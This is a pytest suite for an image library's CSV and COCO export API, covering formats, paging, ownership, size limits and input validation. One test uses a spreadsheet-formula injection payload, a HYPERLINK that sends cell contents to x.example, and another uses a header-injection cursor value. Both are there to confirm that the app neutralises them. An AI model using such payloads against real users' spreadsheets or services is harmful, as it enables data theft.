import csv
import io
import json
import re
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest
from botocore.stub import Stubber
from fastapi.testclient import TestClient
from httpx2 import Response

from app.adapters.aws.items import attributes, image_item
from app.adapters.aws.table import Table
from app.api import export_formats
from app.api.export_formats import CocoDocument
from app.domain.ids import created_at, new_id
from app.domain.images import Image, ImageState
from app.domain.tags import MAX_TAGS, TagEdit
from app.main import handler
from detector import BoundingBox, Detection
from tests.support.aws import TABLE_NAME
from tests.support.fakes import image
from tests.support.tokens import claims, sign
from tests.unit.app.conftest import Caller
from tests.unit.app.test_main import event

if TYPE_CHECKING:
    from mypy_boto3_dynamodb.client import DynamoDBClient

MOMENT = datetime(2026, 1, 31, 12, tzinfo=UTC)
MOST_BOXES = 6_400  # make a row of 400 KB, the most that DynamoDB takes
MEBIBYTE = 2**20
ID = "[0-7][0-9a-hjkmnp-tv-z]{25}"


def pages(client: TestClient, kind: str, limit: int = 500) -> Iterator[Response]:
    """Each page, by the header `Link`."""
    link: re.Match[str] | None = re.match("<(.*)>", f"</export?format={kind}&limit={limit}>")
    while link:
        answer = client.get(link[1]).raise_for_status()
        yield answer
        link = re.fullmatch('<(/export[?].*)>; rel="next"', answer.headers.get("Link", ""))


def exported(client: TestClient, kind: str = "csv") -> Any:
    """The only page: rows of the CSV without the header, or the COCO document."""
    (answer,) = pages(client, kind)
    return table_rows(answer)[1:] if kind == "csv" else answer.json()


def table_rows(answer: Response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.text, newline=""), strict=True))


def check_coco(document: dict[str, Any]) -> None:
    """Assert what the official description of the format asks for."""
    CocoDocument.model_validate(document, strict=False, extra="forbid")
    by_id = {part: {entry["id"]: entry for entry in document[part]} for part in ("images", "annotations", "categories")}
    for part, entries in by_id.items():
        assert len(entries) == len(document[part])
        assert all(type(number) is int for number in entries)
    for annotation in document["annotations"]:
        described = by_id["images"][annotation["image_id"]]
        assert annotation["category_id"] in by_id["categories"]
        left, top, width, height = annotation["bbox"]
        assert 0 <= left < left + width <= described["width"]
        assert 0 <= top < top + height <= described["height"]
        assert annotation["area"] == pytest.approx(width * height, abs=0.01)
        assert annotation["iscrowd"] == 0


def boxes(document: dict[str, Any]) -> list[tuple[str, str, list[float]]]:
    """Of each annotation the image's id in the library, the category's name and the box."""
    ids = {entry["id"]: entry["pixtag_id"] for entry in document["images"]}
    names = {entry["id"]: entry["name"] for entry in document["categories"]}
    return [(ids[one["image_id"]], names[one["category_id"]], one["bbox"]) for one in document["annotations"]]


def photograph(owner: str, **counts: int) -> Image:
    return replace(image(owner, counts=counts), width=64, height=48, model="fake@1")


def test_csv_has_a_row_for_each_tag_of_each_image(client: TestClient, table: Table, owner: str) -> None:
    edits = {"cat": TagEdit(3, MOMENT), "dog": TagEdit(5, MOMENT), "bird": TagEdit(0, MOMENT)}
    tagged = table.save(replace(photograph(owner, dog=2, person=1, bird=1), edits=edits, taken_at=MOMENT))
    untagged = table.save(photograph(owner))

    (answer,) = pages(client, "csv")

    added = [created_at(one.id).isoformat(timespec="seconds") for one in (untagged, tagged)]
    facts = [tagged.id, "beach.jpg", added[1], "2026-01-31T12:00:00+00:00", "64", "48"]
    assert table_rows(answer) == [
        ["id", "name", "added", "taken", "width", "height", "tag", "count", "boxes", "edited"],
        [untagged.id, "beach.jpg", added[0], "", "64", "48", "", "0", "0", ""],
        [*facts, "dog", "5", "2", "2026-01-31T12:00:00+00:00"],
        [*facts, "cat", "3", "0", "2026-01-31T12:00:00+00:00"],
        [*facts, "person", "1", "1", ""],
    ]
    assert answer.text.count("\r\n") == answer.text.count("\n") == 5


def test_coco_has_an_annotation_for_each_box(client: TestClient, table: Table, owner: str) -> None:
    two = tuple(Detection("Dog", 0.8765, BoundingBox(left, 2.0, 30.0, 40.1)) for left in (0.3, 1.5))
    saved = table.save(replace(photograph(owner), detections=two, edits={"cat": TagEdit(3, MOMENT)}, taken_at=MOMENT))

    document = exported(client, "coco")

    check_coco(document)
    assert document["images"] == [
        {
            "id": 1,
            "file_name": "beach.jpg",
            "width": 64,
            "height": 48,
            "date_captured": "2026-01-31T12:00:00Z",
            "pixtag_id": saved.id,
            "model": "fake@1",
            "tags": {"cat": 3, "dog": 2},
        }
    ]
    assert document["categories"] == [{"id": 1, "name": "dog", "supercategory": ""}]
    common = {"image_id": 1, "category_id": 1, "segmentation": [], "iscrowd": 0, "score": 0.8765}
    assert document["annotations"] == [
        {"id": 1, "bbox": [0.3, 2.0, 29.7, 38.1], "area": 1131.57, **common},
        {"id": 2, "bbox": [1.5, 2.0, 28.5, 38.1], "area": 1085.85, **common},
    ]
    assert document["info"]["description"] == "A page of a PixTag library"
    assert document["licenses"] == []


def test_what_a_person_took_away_is_no_annotation(client: TestClient, table: Table, owner: str) -> None:
    edits = {"dog": TagEdit(0, MOMENT), "cat": TagEdit(1, MOMENT)}
    saved = table.save(replace(photograph(owner, dog=1, cat=2), edits=edits))

    document = exported(client, "coco")

    assert boxes(document) == [(saved.id, "cat", [1.5, top, 28.5, 1.5]) for top in (2.0, 4.0)]
    assert document["images"][0]["tags"] == {"cat": 1}


@pytest.mark.parametrize(
    ("kind", "media_type", "ending"), [("csv", "text/csv; charset=utf-8", "csv"), ("coco", "application/json", "json")]
)
def test_each_page_is_a_file_with_a_name_of_its_own(
    client: TestClient, table: Table, owner: str, kind: str, media_type: str, ending: str
) -> None:
    _, last = (table.save(photograph(owner)) for _ in range(2))

    first, second, *_ = pages(client, kind, limit=1)

    assert first.headers["Content-Type"] == second.headers["Content-Type"] == media_type
    named = [answer.headers["Content-Disposition"] for answer in (first, second)]
    day = r"pixtag-\d{4}-\d\d-\d\d"
    assert re.fullmatch(f'attachment; filename="{day}[.]{ending}"', named[0])
    assert re.fullmatch(f'attachment; filename="{day}-{last.id}[.]{ending}"', named[1])


def test_an_empty_library_is_an_empty_document(client: TestClient) -> None:
    assert exported(client, "csv") == []
    document = exported(client, "coco")
    check_coco(document)
    assert document["images"] == document["annotations"] == document["categories"] == []


def test_only_what_is_ready_and_ones_own_is_exported(caller: Caller, table: Table, owner: str) -> None:
    saved = {state: table.save(replace(photograph(owner, dog=1), state=state)) for state in ImageState}
    stranger = "6f2f1d9e-4c8a-4d5e-9e0a-0a1b2c3d4e5f"
    theirs = table.save(photograph(stranger, cat=1))

    for person, only in ((owner, saved[ImageState.READY]), (stranger, theirs)):
        client = caller(person)
        assert [row[0] for row in exported(client)] == [only.id]
        assert [one["pixtag_id"] for one in exported(client, "coco")["images"]] == [only.id]


def test_three_pages_together_are_the_library(client: TestClient, table: Table, owner: str) -> None:
    saved = [table.save(photograph(owner, dog=number % 3, cat=number % 2)) for number in range(7)]

    three = [answer.json() for answer in pages(client, "coco", limit=3)]

    for document in three:
        check_coco(document)
    assert [len(document["images"]) for document in three] == [3, 3, 1]
    newest_first = saved[::-1]
    assert [one["pixtag_id"] for document in three for one in document["images"]] == [one.id for one in newest_first]
    assert Counter((image_id, name) for document in three for image_id, name, _ in boxes(document)) == Counter(
        (one.id, detection.label) for one in saved for detection in one.detections
    )
    (whole,) = pages(client, "csv")
    assert [row for answer in pages(client, "csv", limit=3) for row in table_rows(answer)[1:]] == table_rows(whole)[1:]


def put(dynamodb: "DynamoDBClient", images: Sequence[Image]) -> None:
    """Write the rows of images, and nothing else of them: quicker than a transaction for each."""
    for first in range(0, len(images), 25):
        puts = [{"PutRequest": {"Item": attributes(image_item(one))}} for one in images[first : first + 25]]
        dynamodb.batch_write_item(RequestItems={TABLE_NAME: puts})  # type: ignore[dict-item]


@pytest.mark.parametrize("kind", ["csv", "coco"])
def test_of_a_thousand_images_each_is_exported_once(
    client: TestClient, dynamodb: "DynamoDBClient", owner: str, kind: str
) -> None:
    saved = [photograph(owner) for _ in range(1_000)]
    put(dynamodb, saved)

    answers = list(pages(client, kind, limit=300))

    assert len(answers) == 4
    ids = [image_id for answer in answers for image_id in re.findall(ID, answer.text)]
    assert ids == sorted((one.id for one in saved), reverse=True)


@pytest.mark.parametrize(
    "name",
    [
        'the "best", of all.jpg',
        "two\r\nlines.jpg",
        "a,b;c\td.jpg",
        "'quoted'.jpg",
        "👩‍👩‍👧 Ελλάδα 写真.jpg",
        "5.jpg",
    ],
)
def test_a_name_comes_out_as_it_went_in(client: TestClient, table: Table, owner: str, name: str) -> None:
    table.save(replace(photograph(owner, dog=1), name=name, edits={name: TagEdit(2, MOMENT)}))

    assert [(row[1], row[6]) for row in exported(client)] == [(name, name), (name, "dog")]
    described = exported(client, "coco")["images"][0]
    assert (described["file_name"], described["tags"][name]) == (name, 2)


def test_coco_reads_right_in_any_encoding_that_knows_ascii(client: TestClient, table: Table, owner: str) -> None:
    table.save(replace(photograph(owner), name="写真.jpg"))

    (answer,) = pages(client, "coco")

    assert answer.content.isascii()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="])
def test_no_cell_is_a_formula(client: TestClient, table: Table, owner: str, start: str) -> None:
    name = f'{start}HYPERLINK("http://x.example?"&A1,"see")'
    table.save(replace(photograph(owner), name=name, edits={name: TagEdit(1, MOMENT)}))

    (row,) = exported(client)

    assert (row[1], row[6]) == (f"'{name}", f"'{name}")
    assert row[4:6] + row[7:9] == ["64", "48", "1", "0"]
    assert exported(client, "coco")["images"][0]["file_name"] == name


def test_a_spreadsheet_that_parts_cells_at_semicolons_sees_no_formula_either(
    client: TestClient, table: Table, owner: str
) -> None:
    table.save(replace(photograph(owner), name="sea; sand;=1+1; -2.jpg"))

    (row,) = exported(client)

    assert row[1] == "sea; sand;'=1+1;' -2.jpg"


def crowd(owner: str) -> Image:
    """An image with as many boxes as a row can hold."""
    one = Detection("dining table", 0.8765, BoundingBox(1234.5, 1234.6, 3456.7, 2345.6))
    return replace(photograph(owner), detections=(one,) * MOST_BOXES)


def wordy(owner: str) -> Image:
    """An image whose name and tags take as much room as they can, and more when they are quoted."""
    edits = {"😀" * 60 + str(number): TagEdit(999, MOMENT) for number in range(MAX_TAGS)}
    return replace(photograph(owner), name='"' * 255, edits=edits)


@pytest.mark.parametrize(("kind", "model", "count"), [("coco", crowd, 7), ("coco", wordy, 500), ("csv", wordy, 500)])
def test_an_answer_always_fits_what_lambda_answers_with(
    client: TestClient, dynamodb: "DynamoDBClient", owner: str, kind: str, model: Callable[[str], Image], count: int
) -> None:
    item = attributes(image_item(model(owner)))
    ids = sorted((new_id() for _ in range(count)), reverse=True)
    rows = [item | attributes({"id": image_id}) for image_id in ids]

    with Stubber(dynamodb) as stub:
        stub.add_response("query", {"Items": rows})
        answer = client.get("/export", params={"format": kind})

    assert len(answer.content) < 5 * MEBIBYTE
    assert 3.5 * MEBIBYTE < len(json.dumps(answer.text)) < 5 * MEBIBYTE  # as Lambda hands it on
    written = list(dict.fromkeys(re.findall(ID, answer.text)))
    assert written == ids[: len(written)]
    assert f"cursor={written[-1]}>" in answer.headers["Link"]


@pytest.mark.parametrize("kind", ["csv", "coco"])
def test_a_full_page_goes_on_with_the_next_image(
    client: TestClient, table: Table, owner: str, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_formats, "FULL_BYTES", 150)
    saved = [table.save(photograph(owner, dog=1)) for _ in range(7)]

    answers = list(pages(client, kind))

    assert len(answers) > 3
    ids = [image_id for answer in answers for image_id in re.findall(ID, answer.text)]
    assert ids == sorted((one.id for one in saved), reverse=True)


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"format": "csv", "cursor": "garbage"}, 400),
        ({"format": "coco", "cursor": '"\r\nX: y'}, 400),
        ({"format": "csv", "limit": "0"}, 422),
        ({"format": "csv", "limit": "1001"}, 422),
        ({"format": "xml"}, 422),
        ({}, 422),
    ],
)
def test_an_export_of_nonsense_is_refused(client: TestClient, params: dict[str, str], status: int) -> None:
    answer = client.get("/export", params=params)

    assert answer.status_code == status
    assert answer.headers["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize("kind", ["csv", "coco"])
def test_api_gateway_gets_the_text_itself(client: TestClient, table: Table, owner: str, kind: str) -> None:
    saved = table.save(replace(photograph(owner), name="写真.jpg"))
    request = event("/export") | {
        "rawQueryString": f"format={kind}",
        "headers": {"host": "pixtag.example", "authorization": f"Bearer {sign(claims(owner))}"},
    }

    answer = handler(request, {})  # type: ignore[arg-type]  # the context is not used

    assert (answer["statusCode"], answer["isBase64Encoded"]) == (200, False)
    assert saved.id in answer["body"]
